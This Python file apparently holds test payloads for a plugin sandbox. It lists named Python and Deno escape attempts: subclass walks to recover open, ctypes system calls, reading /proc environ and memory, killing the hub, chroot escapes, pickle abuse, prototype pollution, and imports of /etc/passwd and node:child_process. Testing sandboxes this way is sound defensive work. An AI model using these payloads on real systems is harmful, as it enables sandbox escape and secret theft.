"""Attacks from within a guest, in its own language: what each tries, by name."""

from __future__ import annotations

#: `posix` is `os` as the plugin finds it; `T` has the targets. What is returned was got.
DIG = 'posix = contextlib.__builtins__["__import__"]("posix")'
PYTHON: dict[str, str] = {
    "subclasses to an opened file": """
found = [().__class__.__base__]
for each in found:
    if each is not type:
        found += [one for one in each.__subclasses__() if one not in found]
    if each.__name__ == "FileIO":
        return each(T["FILE"]).read().decode()
""",
    "subclasses to the real open": """
for each in object.__subclasses__():
    made = getattr(getattr(each, "__init__", None), "__globals__", {})
    real = made.get("__builtins__")
    real = real if isinstance(real, dict) or real is None else vars(real)
    if real and "open" in real:
        try:
            return real["open"](T["FILE"]).read()
        except (ImportError, OSError, PermissionError):
            pass
""",
    "io.open_code": "return io.open_code(T['FILE']).read().decode()",
    "io.FileIO for writing": "return io.FileIO(T['FILE'], 'w').write(b'owned')",
    "os behind logging": "return logging.os.listdir(T['FOLDER'])",
    "os behind inspect": "return inspect.os.read(inspect.os.open(T['FILE'], 0), 99).decode()",
    "open behind codecs": "return codecs.open(T['FILE']).read()",
    "builtins behind codecs": "return codecs.builtins.open(T['FILE']).read()",
    "open behind tokenize": "return tokenize.open(T['FILE']).read()",
    "linecache": "return ''.join(traceback.linecache.getlines(T['FILE'])) or None",
    "importlib behind inspect": "return inspect.importlib.import_module('socket')",
    "machinery behind inspect": """
loader = inspect.importlib.machinery.SourceFileLoader("owned", T["FILE"])
return loader.get_data(T["FILE"]).decode()
""",
    "the loader of a module": """
return json.__loader__.get_data(T["FILE"]).decode()
""",
    "the spec of a frozen module": """
return abc.__spec__.loader.load_module("posix").listdir("/")[0] and abc.os.listdir("/etc")
""",
    "every object of the collector": """
gc = contextlib.__builtins__["__import__"]("gc")
want = T["SECRET"][::-1]
texts = [str(one) for each in gc.get_objects() if type(each) is dict for one in each.values()]
return [text for text in texts if want in text] or None
""",
    "the hub's words in its own memory": """
gc = contextlib.__builtins__["__import__"]("gc")
names = [type(each).__module__ for each in gc.get_objects()]
return [name for name in names if name.startswith(("plexihub.services", "sqlalchemy"))] or None
""",
    "the frames above": """
import sys
frame = sys._getframe()
while frame:
    if T["SECRET"][::-1] in str(frame.f_globals):
        return frame.f_code.co_filename
    frame = frame.f_back
""",
    "ctypes in sys.modules": """
modules = contextlib.sys.modules
return modules["ctypes"].CDLL(None).system(b"true")
""",
    "ctypes by its own finder": """
made = contextlib.__builtins__["__import__"]("_ctypes")
system = made.dlsym(made.dlopen("libc.so.6", 2), "system")
return "ran" if made.call_function(system, (b"true",)) == 0 else None
""",
    "a built-in module by force": """
imp = contextlib.__builtins__["__import__"]("_imp")
spec = type(abc.__spec__)("_socket", None)
return imp.create_dynamic(type(abc.__spec__)("x", None, origin=T["FILE"]))
""",
    "its own memory by /proc": """
return posix.read(posix.open("/proc/self/mem", 2), 1)
""",
    "the memory of the hub by /proc": """
return posix.open("/proc/%d/mem" % T["HUB"], 2)
""",
    "the environment of the hub by /proc": """
return posix.read(posix.open("/proc/%d/environ" % T["HUB"], 0), 99)
""",
    "its own environment": """
return {k: v for k, v in posix.environ.items() if k not in (b"LC_CTYPE", b"PYTHONUTF8")} or None
""",
    "a shell": "return posix.system('true') == 0 or None",
    "a program": "posix.posix_spawn('/bin/true', ['true'], {})\nreturn 'spawned'",
    "a fork": "pid = posix.fork()\nif pid == 0:\n    posix._exit(0)\nreturn pid",
    "a socket": """
import_ = contextlib.__builtins__["__import__"]
s = import_("_socket").socket(2, 1)
s.connect(("127.0.0.1", T["PORT"]))
return "connected"
""",
    "an abstract socket": """
s = contextlib.__builtins__["__import__"]("_socket").socket(1, 1)
s.connect("\\0" + T["ABSTRACT"])
return "connected"
""",
    "killing the hub": "posix.kill(T['HUB'], 10)\nreturn 'sent'",
    "killing its group": "posix.killpg(0, 10)\nreturn 'sent'",
    "killing everybody": "posix.kill(-1, 10)\nreturn 'sent'",
    "writing the canary": "return posix.write(posix.open(T['FILE'], 2), b'owned')",
    "removing the canary": "posix.unlink(T['FILE'])\nreturn 'removed'",
    "a new file at the root": "return posix.open('/owned', 0o102, 0o666)",
    "a link to the canary": "posix.symlink(T['FILE'], '/link')\nreturn 'linked'",
    "leaving its root": "posix.chdir('..')\nposix.chroot('.')\nreturn 'left'",
    "other descriptors": """
found = []
for number in range(3, 256):
    try:
        found.append((number, posix.fstat(number).st_mode))
    except OSError:
        pass
return [one for one in found if (one[1] & 0o170000) == 0o100000] or None
""",
    "pickle behind copyreg": """
pickle = contextlib.__builtins__["__import__"]("_pickle")
return pickle.loads(b"cposix\\nlistdir\\n(S'/etc'\\ntR.")
""",
    "marshal": """
marshal = contextlib.__builtins__["__import__"]("marshal")
code = marshal.loads(marshal.dumps(compile("posix.listdir('/etc')", "m", "eval")))
return eval(code, {"posix": posix})
""",
    "a tracer of the guest's own frames": """
seen = []
def spy(frame, event, arg):
    if T["SECRET"][::-1] in str(frame.f_locals):
        seen.append(event)
contextlib.sys.settrace(spy)
plugin.id
contextlib.sys.settrace(None)
return seen or None
""",
    "a handler for every signal": """
signal = contextlib.__builtins__["__import__"]("_signal")
for number in (10, 12, 15):
    signal.signal(number, lambda *_: None)
return posix.kill(T["HUB"], 10) or "sent"
""",
    "real time": "posix.sched_setscheduler(0, 1, posix.sched_param(1))\nreturn 'set'",
    "more of every limit": """
resource = contextlib.__builtins__["__import__"]("resource")
resource.setrlimit(resource.RLIMIT_DATA, (-1, -1))
return "set"
""",
    "another plugin's identity": """
plugin.id = "good"
return None if plugin.id != "good" else (T["ASK"] and None)
""",
}

#: What ends the guest at worst: the process is gone, and no more.
PYTHON_CRASHES: dict[str, str] = {
    "bytecode that lies": """
def f(): pass
code = f.__code__.replace(co_code=b"d\\xff" * 200, co_consts=(), co_stacksize=1)
f.__code__ = code
return f()
""",
    "a stack without an end": """
contextlib.sys.setrecursionlimit(2**31 - 1)
def f(n): return f(n + 1) + 1
return f(0)
""",
    "a stack of C": """
contextlib.sys.setrecursionlimit(2**31 - 1)
made = []
for _ in range(10**6):
    made = [made]
return str(made)[:0]
""",
    "marshalled nonsense": """
marshal = contextlib.__builtins__["__import__"]("marshal")
code = marshal.dumps(compile("1", "m", "eval"))
for at in range(len(code)):
    try:
        eval(marshal.loads(code[:at] + b"\\xff" + code[at + 1:]))
    except Exception:
        pass
raise ValueError("all of them were refused")
""",
    "a wrong address": """
faulthandler = contextlib.__builtins__["__import__"]("faulthandler")
faulthandler._sigsegv()
""",
    "an abort": "posix.abort()",
    "a signal to itself": "posix.kill(posix.getpid(), 9)\nraise ValueError('nothing happened')",
    "closing the pipe": "posix.close(0)\nwhile True: pass",
}

SCOPE = "globalThis as any"
DENO: dict[str, str] = {
    "Function": "return new Function('return Deno.readTextFileSync')()(T.FILE)",
    "the constructor of a function": "return (() => 0).constructor('return Deno')()",
    "the constructor of an async function": (
        "return (await (async () => 0).constructor('return Deno')())"
    ),
    "the constructor of a generator": (
        "return (function* () {}).constructor('yield Deno')().next().value"
    ),
    "the constructor of a built-in": "return ([] as any).at.constructor('return Deno')()",
    "indirect eval": "return (0, eval)('Deno')",
    "this of a sloppy function": "return new Function('return this.Deno')() ?? null",
    "the prototype of the global": "return Object.getPrototypeOf(globalThis).Deno ?? null",
    "a symbol of the global": """
const found = Object.getOwnPropertySymbols(globalThis).map((one) => (globalThis as any)[one]);
return found.find((one) => one?.internal || one?.core || one?.ops) ?? null;
""",
    "__proto__ of the API": """
(plugin.api as any).__proto__.emit = () => "owned";
return ({} as any).emit ?? null;
""",
    "pollution by a payload": """
Object.assign(Object.prototype, { permissions: ["admin:users"], user: "ada", granted: true });
await plugin.api.emit("polluted", {}).catch(() => 0);
for (const key of ["permissions", "user", "granted"]) delete (Object.prototype as any)[key];
return null;
""",
    "the id of another plugin": """
try { (plugin as any).id = "good"; } catch { /* it is fixed */ }
return plugin.id === "good" ? "good" : null;
""",
    "WebAssembly with the hub's imports": """
const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,17,1,4,119,97,115,105,8,112,114,
  111,99,95,101,120,105,0,0]);
return await WebAssembly.instantiate(bytes, { wasi: { proc_exi: (globalThis as any).Deno.exit } });
""",
    "WebAssembly beyond its memory": """
const memory = new WebAssembly.Memory({ initial: 1, maximum: 1 });
memory.grow(1);
return "grown";
""",
    "SharedArrayBuffer with somebody": """
const shared = new SharedArrayBuffer(8);
new (globalThis as any).BroadcastChannel("hub").postMessage(shared);
return "sent";
""",
    "a worker": "return new (globalThis as any).Worker('data:text/javascript,0')",
    "waiting for shared memory": (
        "return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 10) && null"
    ),
    "import of a file": "return await import('file://' + T.FILE)",
    "import of the canary as text": (
        "return (await import('file://' + T.FILE, { with: { type: 'text' } } as any)).default"
    ),
    "import of the system's file": "return await import('file:///etc/passwd')",
    "import of a path upward": "return await import('../../../../etc/passwd')",
    "import from memory": """
const url = URL.createObjectURL(new Blob(["export default globalThis.Deno"]));
return (await import(url)).default ?? null;
""",
    "import from data, then a file": (
        "return await import(`data:text/javascript,export * from 'file://${T.FILE}'`)"
    ),
    "import from data, then node": "return await import('data:text/javascript,import \"node:fs\"')",
    "import of node:fs": "return await import('node:fs')",
    "import of node:child_process": "return await import('node:child_process')",
    "import of npm": "return await import('npm:left-pad')",
    "import of jsr": "return await import('jsr:@std/fs')",
    "import over https": "return await import('https://example.com/x.js')",
    "import over http from loopback": "return await import(`http://127.0.0.1:${T.PORT}/x.js`)",
    "import.meta.resolve of a file": "return await import(import.meta.resolve('/etc/passwd'))",
    "fetch": "return await (globalThis as any).fetch(`http://127.0.0.1:${T.PORT}/`)",
    "fetch of a file": "return await (globalThis as any).fetch('file://' + T.FILE)",
    "WebSocket": "return new (globalThis as any).WebSocket(`ws://127.0.0.1:${T.PORT}/`)",
    "EventSource": "return new (globalThis as any).EventSource(`http://127.0.0.1:${T.PORT}/`)",
    "XMLHttpRequest": "return new (globalThis as any).XMLHttpRequest()",
    "process.binding": "return (globalThis as any).process.binding('fs')",
    "require": "return (globalThis as any).require('fs')",
    "the stack of an error": """
(Error as any).prepareStackTrace = (_: unknown, sites: any[]) => sites;
const sites = (new Error().stack ?? []) as any[];
const found = [...sites].map((one) => one.getFunction?.() ?? null).find((one) => one);
delete (Error as any).prepareStackTrace;
return found ? found("return Deno") : null;
""",
    "a thenable that is asked by the hub": """
let taken: unknown = null;
const asked = { get then() { taken = (globalThis as any).Deno ?? null; return undefined; } };
await asked;
return taken;
""",
    "a proxy as parameters": """
let seen: unknown = null;
const spy = new Proxy({}, { ownKeys(target) { seen = (globalThis as any).Deno ?? null;
  return Reflect.ownKeys(target); } });
await plugin.api.emit("spied", spy).catch(() => 0);
return seen;
""",
    "a finalizer": """
let seen: unknown = null;
new FinalizationRegistry(() => { seen = (globalThis as any).Deno; }).register({}, 0);
return seen;
""",
    "local storage": "return (globalThis as any).localStorage.setItem('x', '1') ?? 'stored'",
    "the cache": "return await (globalThis as any).caches.open('x')",
    "the host's name": "return (globalThis as any).navigator?.userAgent ?? null",
    "a dialog on the terminal": "return (globalThis as any).prompt('password?')",
    "leaving the process": "(globalThis as any).Deno.exit(0); return 'left'",
}
